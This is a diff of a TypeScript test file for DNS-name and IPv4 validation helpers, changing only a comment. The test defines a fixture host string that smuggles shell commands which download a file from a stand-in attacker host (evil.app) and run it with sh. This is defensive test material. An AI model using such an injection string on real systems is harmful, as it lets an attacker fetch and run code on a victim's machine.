@@ -1,7 +1,7 @@
 import { describe, expect, it } from 'vitest';
 import { isDnsName, isIpv4, printableHost } from '@/lib/core/dns-name';
 
-/** security-review row 3: a host the WHATWG URL parser keeps, which a shell runs when the line is pasted. */
+/** A host the WHATWG URL parser keeps, which a shell runs when a line that prints it is pasted. */
 const EXPLOIT = 'a;{curl,-o,x,e.evil.app};{sh,x};b.evil.app';
 
 describe('DNS names (lib/dns-name.ts)', () => {
